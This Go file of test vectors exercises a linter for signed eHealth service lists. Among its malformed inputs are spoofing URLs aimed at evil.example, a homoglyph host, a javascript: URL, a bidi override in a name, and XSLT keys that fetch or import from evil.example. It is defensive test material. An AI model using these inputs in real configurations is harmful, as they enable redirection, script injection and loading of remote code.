package vectors

import (
	"strings"
	"time"

	"github.com/beevik/etree"

	"github.com/ehealth-bcp/ehealth-bcp/core/bcperr"
	"github.com/ehealth-bcp/ehealth-bcp/drill"
)

// lint holds lists with one bad service: the list stays, the finding names the service.
func lint(k *kit) []scenario {
	found := func(name string, code bcperr.Code, source, comment string, edit func(*drill.List)) scenario {
		return accepted("lint/"+name, source, comment, k.listed(edit), []bcperr.Code{code})
	}
	url := func(name, comment, text string) scenario {
		return found("url-"+name, bcperr.URLInvalid, "docs/design.md#quarantine", comment,
			func(l *drill.List) { l.Services[0].Endpoints[1].URL = text })
	}
	cached := func(name string, code bcperr.Code, comment string, edit func(root, cache *etree.Element)) scenario {
		d, err := drill.NewDraft(withCache(), k.pki.Signer, time.Time{})
		must(err)
		edit(d.Doc.Root(), find(d.Doc.Root(), "./Service/Cache"))
		must(d.Seal())
		return accepted("lint/"+name, "BCP XSD 2.0, CacheType", comment, d.Bytes(), []bcperr.Code{code})
	}
	key := func(name string, code bcperr.Code, comment, stylesheet string) scenario {
		return found(name, code, "XSLT 1.0", comment, func(l *drill.List) {
			l.Services[0].Cache = drill.SampleCache("CACHE_FIRST", "PT8H")
			l.Services[0].Cache.Key.Text = stylesheet
		})
	}
	const xslOpen = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">` +
		`<xsl:output method="text"/><xsl:template match="/">`
	const xslClose = `</xsl:template></xsl:stylesheet>`
	return []scenario{
		found("order-negative", bcperr.OrderInvalid, "docs/design.md#quarantine", "an Order below zero",
			func(l *drill.List) { l.Services[0].Endpoints[1].Order = -1 }),
		found("order-twice", bcperr.OrderDuplicate, "docs/design.md#quarantine", "two endpoints of the same Order",
			func(l *drill.List) { l.Services[0].Endpoints[1].Order = 0 }),
		accepted("lint/order-huge", "XSD 1.0 Part 2 §3.3.13", "an Order that no machine word holds",
			k.before(func(root *etree.Element) {
				set(nth(root, "./Service/Endpoint", 1), "Order",
					"99999999999999999999")
			}), []bcperr.Code{bcperr.OrderInvalid}),
		found("service-id-empty", bcperr.ServiceIDInvalid, "docs/design.md#quarantine", "a service whose Id is empty",
			func(l *drill.List) { l.Services[1].ID = "" }),
		url("ip", "an IP address", "https://192.0.2.1/Kgss/v1"),
		url("ip-decimal", "an IP address as one number, as browsers read it", "https://3221225985/Kgss/v1"),
		url("ipv6", "an IPv6 address", "https://[2001:db8::1]/Kgss/v1"),
		url("one-label", "a host of one label", "https://intranet/Kgss/v1"),
		url("trailing-dot", "a dot after the host", "https://services.bcp2.example./Kgss/v1"),
		url("punycode", "a host whose name people cannot read", "https://xn--srvices-eya.bcp.example/Kgss/v1"),
		url("not-ascii", "a letter outside ASCII in the host", "https://sеrvices.bcp.example/Kgss/v1"),
		url("port-zero", "port 0", "https://services.bcp2.example:0/Kgss/v1"),
		url("port-large", "port 65536", "https://services.bcp2.example:65536/Kgss/v1"),
		url("port-letters", "a port of digits and a letter", "https://services.bcp2.example:44a/Kgss/v1"),
		url("host-long", "a host name of 254 octets", "https://"+strings.Repeat("a.", 127)[:254-len("bcp2.example")]+
			"bcp2.example/Kgss/v1"),
		url("ftp", "another scheme", "ftp://services.bcp2.example/Kgss/v1"),
		url("http-loopback-like", "plain http to a host whose name begins as a loopback address",
			"http://127.0.0.1.evil.example/Kgss/v1"),
		url("http-loopback-number", "plain http to what is no address", "http://127.0.0.256/Kgss/v1"),
		url("http-private", "plain http to a private address", "http://10.0.0.1/Kgss/v1"),
		url("fragment", "a fragment", "https://services.bcp2.example/Kgss/v1#x"),
		url("backslash", "a backslash, which browsers take for a slash",
			`https://services.bcp2.example\@evil.example/Kgss/v1`),
		url("dot-segments", "dot segments, which browsers resolve", "https://services.bcp2.example/Kgss/%2e./v1"),
		url("percent", "a percent sign alone", "https://services.bcp2.example/Kgss/%v1"),
		url("percent-control", "a line feed in percent form", "https://services.bcp2.example/Kgss/%0Av1"),
		url("long", "2,001 octets", "https://services.bcp2.example/"+strings.Repeat("a",
			2001-len("https://services.bcp2.example/"))),
		url("scheme-relative", "no scheme", "//services.bcp2.example/Kgss/v1"),
		url("http", "plain http", "http://services.bcp2.example/Kgss/v1"),
		url("javascript", "a script", "javascript:alert(1)"),
		url("user", "a user name before the host", "https://services.bcp.example@evil.example/Kgss/v1"),
		url("relative", "no scheme and no host", "/Kgss/v1"),
		url("empty", "no address", ""),
		url("blank", "a blank inside", "https://services.bcp2.example/Kgss /v1"),
		found("url-shared", bcperr.URLShared, "docs/design.md#quarantine", "two services at one address",
			func(l *drill.List) { l.Services[1].Endpoints[0].URL = l.Services[0].Endpoints[0].URL }),
		found("url-duplicate", bcperr.URLDuplicate, "docs/design.md#quarantine",
			"a recovery endpoint that is the main one",
			func(l *drill.List) {
				l.Services[0].Endpoints[1].URL = strings.Replace(l.Services[0].Endpoints[0].URL, "//s", "//S", 1)
			}),
		found("port-blocked", bcperr.PortBlocked, "WHATWG Fetch §2.9", "the port of X11, which browsers do not call",
			func(l *drill.List) { l.Services[0].Endpoints[1].URL = "https://services.bcp2.example:6000/Kgss/v1" }),
		found("none-active", bcperr.NoneActive, "docs/design.md#quarantine",
			"no endpoint of a service is ACTIVE: a published state",
			func(l *drill.List) { l.Services[0].Endpoints[0].Status = drill.Inactive }),
		found("several-active", bcperr.SeveralActive, "docs/design.md#quarantine", "two ACTIVE endpoints",
			func(l *drill.List) { l.Services[0].Endpoints[1].Status = drill.Active }),
		accepted("lint/service-twice", "docs/design.md#quarantine", "two services of one Id: both are told of, for "+
			"neither can be meant",
			k.listed(func(l *drill.List) { l.Services[1].ID = l.Services[0].ID }),
			[]bcperr.Code{bcperr.ServiceDuplicate, bcperr.ServiceDuplicate}),
		found("service-id-quirk", bcperr.ServiceIDQuirk, "docs/design.md#domain",
			"an Id that ends in an apostrophe, as a genuine one does", func(l *drill.List) { l.Services[1].ID += "'" }),
		found("service-name-quirk", bcperr.ServiceNameQuirk, "docs/design.md#quarantine",
			"a Name with markup, and a mark that turns the direction of writing",
			func(l *drill.List) { l.Services[1].Name = "<b>STS</b>\u202e" }),
		cached("cache-strategy", bcperr.CacheInvalid, "a strategy that we do not know",
			func(_, cache *etree.Element) { set(cache, "Strategy", "CACHE_ONLY") }),
		cached("cache-key-missing", bcperr.CacheInvalid, "no Key",
			func(_, cache *etree.Element) { remove(find(cache, "./Key")) }),
		cached("cache-transform", bcperr.CacheInvalid, "a transform that is not xslt",
			func(_, cache *etree.Element) { set(find(cache, "./Key"), "Tranform", "xpath") }),
		cached("cache-transform-spelling", bcperr.CacheInvalid, "the attribute spelled right, which the schema does "+
			"not know",
			func(_, cache *etree.Element) {
				find(cache, "./Key").RemoveAttr("Tranform")
				set(find(cache, "./Key"), "Transform", "xslt")
			}),
		cached("cache-inline", bcperr.CacheInvalid, "Inline is no xs:boolean",
			func(_, cache *etree.Element) { set(find(cache, "./Key"), "Inline", "yes") }),
		cached("cache-twice", bcperr.CacheInvalid, "two caches",
			func(_, cache *etree.Element) { cache.Parent().AddChild(cache.Copy()) }),
		cached("expiry-malformed", bcperr.ExpiryInvalid, "a Duration that is no xs:duration",
			func(_, cache *etree.Element) { set(find(cache, "./Expiry"), "Duration", "8H") }),
		cached("cache-attribute", bcperr.CacheInvalid, "an attribute that a cache does not have",
			func(_, cache *etree.Element) { set(cache, "Id", "x") }),
		cached("cache-strategy-missing", bcperr.CacheInvalid, "no strategy",
			func(_, cache *etree.Element) { cache.RemoveAttr("Strategy") }),
		cached("cache-expiry-missing", bcperr.CacheInvalid, "no Expiry",
			func(_, cache *etree.Element) { remove(find(cache, "./Expiry")) }),
		cached("cache-child", bcperr.CacheInvalid, "another element after Expiry",
			func(_, cache *etree.Element) { cache.CreateElement("Key") }),
		cached("cache-key-attribute", bcperr.CacheInvalid, "an attribute that a key does not have",
			func(_, cache *etree.Element) { set(find(cache, "./Key"), "Id", "x") }),
		cached("cache-inline-missing", bcperr.CacheInvalid, "no Inline",
			func(_, cache *etree.Element) { find(cache, "./Key").RemoveAttr("Inline") }),
		cached("cache-key-relative", bcperr.CacheInvalid, "a stylesheet by a relative location",
			func(_, cache *etree.Element) {
				set(find(cache, "./Key"), "Inline", "false")
				find(cache, "./Key").SetText("key.xslt")
			}),
		cached("expiry-attribute", bcperr.CacheInvalid, "an attribute that an expiry does not have",
			func(_, cache *etree.Element) { set(find(cache, "./Expiry"), "Id", "x") }),
		cached("expiry-type", bcperr.ExpiryInvalid, "an expiry that is neither none nor ttl",
			func(_, cache *etree.Element) { set(find(cache, "./Expiry"), "Type", "never") }),
		cached("expiry-long", bcperr.ExpiryInvalid, "a time to live of a year",
			func(_, cache *etree.Element) { set(find(cache, "./Expiry"), "Duration", "P1Y") }),
		cached("expiry-zero", bcperr.ExpiryInvalid, "a time to live of nothing",
			func(_, cache *etree.Element) { set(find(cache, "./Expiry"), "Duration", "PT0S") }),
		cached("expiry-negative", bcperr.ExpiryInvalid, "a negative time to live",
			func(_, cache *etree.Element) { set(find(cache, "./Expiry"), "Duration", "-PT8H") }),
		cached("expiry-missing", bcperr.ExpiryInvalid, "a ttl without a Duration",
			func(_, cache *etree.Element) { find(cache, "./Expiry").RemoveAttr("Duration") }),
		cached("key-not-signed", bcperr.KeyNotSigned, "a stylesheet by its location: its content is not covered",
			func(_, cache *etree.Element) {
				set(find(cache, "./Key"), "Inline", "false")
				find(cache, "./Key").SetText("https://services.bcp.example/key.xslt")
			}),
		key("key-not-xml", bcperr.XMLMalformed, "a stylesheet that is not XML", "<xsl:stylesheet"),
		key("key-unknown-instruction", bcperr.XSLTInvalid, "an instruction that XSLT does not have",
			xslOpen+`<xsl:print select="."/>`+xslClose),
		key("key-document", bcperr.XSLTForbidden, "a stylesheet that reads another document",
			xslOpen+`<xsl:value-of select="document('https://evil.example/')"/><xsl:value-of select="."/>`+xslClose),
		key("key-import", bcperr.XSLTForbidden, "a stylesheet that imports another",
			`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">`+
				`<xsl:import href="https://evil.example/x.xsl"/></xsl:stylesheet>`),
		key("key-constant", bcperr.KeyConstant, "one key for every request", xslOpen+`<xsl:text>key</xsl:text>`+
			xslClose),
	}
}

// withCache is the list of version 2 whose first service has a cache.
func withCache() drill.List {
	l := list(2)
	l.Services[0].Cache = drill.SampleCache("ENDPOINT_FIRST", "PT8H")
	return l
}
